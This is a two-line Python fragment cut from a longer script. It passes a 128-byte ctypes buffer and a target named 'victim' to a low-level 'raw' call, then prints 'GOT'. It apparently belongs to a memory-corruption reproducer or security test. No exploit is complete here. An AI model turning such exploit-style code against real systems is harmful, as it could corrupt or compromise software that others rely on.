raw(129, victim, 9, ctypes.create_string_buffer(128))
print('GOT')
